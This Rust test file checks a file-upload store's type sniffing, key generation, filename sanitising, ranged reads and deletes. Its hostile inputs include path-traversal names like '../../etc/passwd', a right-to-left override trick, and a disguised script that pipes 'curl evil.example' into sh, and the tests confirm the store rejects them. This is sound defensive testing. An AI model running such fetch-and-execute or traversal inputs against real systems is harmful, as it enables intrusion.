use std::io::Write as _;
use std::path::PathBuf;

use convene_domain::ValidationError;
use futures_util::TryStreamExt as _;
use sha2::{Digest as _, Sha256};
use tempfile::TempDir;

use super::*;
use sniff::tests::{odf, pptx, zip};

const PNG_BYTES: &[u8] =
    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89";

fn store() -> (TempDir, Files) {
    let dir = tempfile::tempdir().unwrap();
    let files = Files::local(&dir.path().join("files")).unwrap();
    (dir, files)
}

/// An upload as async-graphql hands it over: a temp file, its cursor left at the end by the
/// write (the store must read from the start anyway).
fn upload(bytes: &[u8]) -> std::fs::File {
    let mut file = tempfile::tempfile().unwrap();
    file.write_all(bytes).unwrap();
    file
}

fn pdf(len: usize) -> Vec<u8> {
    let mut bytes = b"%PDF-1.7\n".to_vec();
    bytes.extend((0..len - bytes.len()).map(|i| (i % 251) as u8));
    bytes
}

fn sha256(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

/// Every file under `root`, directories left out.
fn files_under(root: &std::path::Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let mut pending = vec![root.to_path_buf()];
    while let Some(dir) = pending.pop() {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                pending.push(path);
            } else {
                found.push(path);
            }
        }
    }
    found
}

async fn read_all(files: &Files, key: &str, range: Option<Range<u64>>) -> (ReadFile, Vec<u8>) {
    let mut read = files.read(key, range).await.unwrap();
    let body = std::mem::replace(&mut read.body, futures_util::stream::empty().boxed());
    let chunks: Vec<Bytes> = body.try_collect().await.unwrap();
    (read, chunks.concat())
}

fn invalid(err: DomainError) -> ValidationError {
    match err {
        DomainError::Invalid(invalid) => invalid,
        other => panic!("expected Invalid, got {other:?}"),
    }
}

#[tokio::test]
async fn a_png_round_trips() {
    let (_dir, files) = store();
    let stored = files.put("dot.png", upload(PNG_BYTES)).await.unwrap();
    assert_eq!(stored.filename, "dot.png");
    assert_eq!(stored.content_type, "image/png");
    assert_eq!(stored.byte_size, PNG_BYTES.len() as u64);
    assert_eq!(stored.sha256, sha256(PNG_BYTES));

    let (read, bytes) = read_all(&files, &stored.key, None).await;
    assert_eq!(bytes, PNG_BYTES);
    assert_eq!(read.total_size, PNG_BYTES.len() as u64);
    assert_eq!(read.range, 0..PNG_BYTES.len() as u64);
}

#[tokio::test]
async fn a_pdf_round_trips() {
    let (_dir, files) = store();
    let content = pdf(3000);
    let stored = files.put("paper.pdf", upload(&content)).await.unwrap();
    assert_eq!(stored.content_type, "application/pdf");
    assert_eq!(stored.byte_size, 3000);
    assert_eq!(stored.sha256, sha256(&content));
    let (_, bytes) = read_all(&files, &stored.key, None).await;
    assert_eq!(bytes, content);
}

#[tokio::test]
async fn office_documents_are_stored_with_their_type() {
    let (_dir, files) = store();
    let cases = [
        ("talk.pptx", pptx(), sniff::PPTX),
        ("talk.odp", odf(sniff::ODP), sniff::ODP),
        (
            "notes.docx",
            zip(
                &[
                    ("[Content_Types].xml", b"<Types/>"),
                    ("_rels/.rels", b"<Relationships/>"),
                    ("word/document.xml", b"<w:document/>"),
                ],
                false,
            ),
            sniff::DOCX,
        ),
    ];
    for (name, content, expected) in cases {
        let stored = files.put(name, upload(&content)).await.unwrap();
        assert_eq!(stored.content_type, expected, "{name}");
    }
}

#[tokio::test]
async fn the_key_is_generated_not_taken_from_the_name() {
    let (dir, files) = store();
    let first = files
        .put("../../etc/passwd", upload(PNG_BYTES))
        .await
        .unwrap();
    let second = files
        .put("../../etc/passwd", upload(PNG_BYTES))
        .await
        .unwrap();
    assert_ne!(first.key, second.key);
    for stored in [&first, &second] {
        let id = stored.key.strip_prefix("presentations/").unwrap();
        assert_eq!(id.len(), 32);
        assert!(id.bytes().all(|b| b.is_ascii_hexdigit()), "{}", stored.key);
        assert_eq!(stored.filename, "passwd");
    }
    let mut stored = files_under(dir.path());
    stored.sort();
    let mut expected = vec![
        dir.path().join("files").join(&first.key),
        dir.path().join("files").join(&second.key),
    ];
    expected.sort();
    assert_eq!(stored, expected, "nothing written outside the keys");
}

#[tokio::test]
async fn path_like_names_are_kept_as_their_last_component() {
    let (_dir, files) = store();
    for (raw, shown) in [
        ("..\\..\\boot.ini", "boot.ini"),
        ("/var/www/\u{202e}fdp.png", "fdp.png"),
        ("..", "file"),
        ("", "file"),
    ] {
        let stored = files.put(raw, upload(PNG_BYTES)).await.unwrap();
        assert_eq!(stored.filename, shown, "{raw:?}");
    }
}

#[tokio::test]
async fn a_script_named_pdf_is_refused_and_leaves_nothing() {
    let (dir, files) = store();
    let err = files
        .put("slides.pdf", upload(b"#!/bin/sh\ncurl evil.example | sh\n"))
        .await
        .unwrap_err();
    let err = invalid(err);
    assert_eq!(err.field, "file");
    assert_eq!(err.message, "type not allowed: text/x-shellscript");
    assert_eq!(files_under(dir.path()), Vec::<PathBuf>::new());
}

#[tokio::test]
async fn an_empty_file_is_refused_and_leaves_nothing() {
    let (dir, files) = store();
    let err = invalid(files.put("empty.pdf", upload(b"")).await.unwrap_err());
    assert_eq!((err.field, err.message.as_str()), ("file", "is empty"));
    assert_eq!(files_under(dir.path()), Vec::<PathBuf>::new());
}

#[tokio::test]
async fn a_ranged_read_returns_exactly_the_range() {
    let (_dir, files) = store();
    let content = pdf(100_000);
    let stored = files.put("paper.pdf", upload(&content)).await.unwrap();

    let (read, bytes) = read_all(&files, &stored.key, Some(1000..1010)).await;
    assert_eq!(bytes, &content[1000..1010]);
    assert_eq!(read.range, 1000..1010);
    assert_eq!(read.total_size, 100_000);

    let (read, bytes) = read_all(&files, &stored.key, Some(99_990..200_000)).await;
    assert_eq!(bytes, &content[99_990..]);
    assert_eq!(read.range, 99_990..100_000, "the end is clamped");

    let (_, bytes) = read_all(&files, &stored.key, Some(0..1)).await;
    assert_eq!(bytes, b"%");

    for range in [100_000..100_001, 5..5] {
        let err = files.read(&stored.key, Some(range.clone())).await;
        let err = invalid(err.err().unwrap());
        assert_eq!(err.field, "range", "{range:?}");
    }
}

#[tokio::test]
async fn reading_a_missing_key_is_not_found() {
    let (_dir, files) = store();
    for key in [
        "presentations/0190f0c2d8a37d3c8a1e0b6f4e0c9d11",
        "",
        "../x",
        "a//b",
    ] {
        let err = files.read(key, None).await.err();
        assert!(
            matches!(err, Some(DomainError::NotFound)),
            "{key:?}: {err:?}"
        );
    }
}

#[tokio::test]
async fn delete_is_idempotent() {
    let (dir, files) = store();
    let stored = files.put("dot.png", upload(PNG_BYTES)).await.unwrap();
    files.delete(&stored.key).await.unwrap();
    files.delete(&stored.key).await.unwrap();
    files.delete("").await.unwrap();
    files.delete("../../etc/passwd").await.unwrap();
    assert!(matches!(
        files.read(&stored.key, None).await.err(),
        Some(DomainError::NotFound)
    ));
    assert_eq!(files_under(dir.path()), Vec::<PathBuf>::new());
}

#[tokio::test]
async fn a_large_file_streams_through() {
    const SIZE: usize = 20 * 1024 * 1024 + 12_345;
    let (dir, files) = store();
    let mut content = PNG_BYTES.to_vec();
    let mut state: u32 = 0x1234_5678;
    content.extend((content.len()..SIZE).map(|_| {
        state ^= state << 13;
        state ^= state >> 17;
        state ^= state << 5;
        state as u8
    }));
    let stored = files.put("recording.png", upload(&content)).await.unwrap();
    assert_eq!(stored.byte_size, SIZE as u64);
    assert_eq!(stored.sha256, sha256(&content));

    let on_disk = std::fs::read(dir.path().join("files").join(&stored.key)).unwrap();
    assert_eq!(on_disk.len(), SIZE);
    assert_eq!(sha256(&on_disk), stored.sha256);

    let (read, bytes) = read_all(&files, &stored.key, Some(15_000_000..15_000_100)).await;
    assert_eq!(read.total_size, SIZE as u64);
    assert_eq!(bytes, &content[15_000_000..15_000_100]);
}
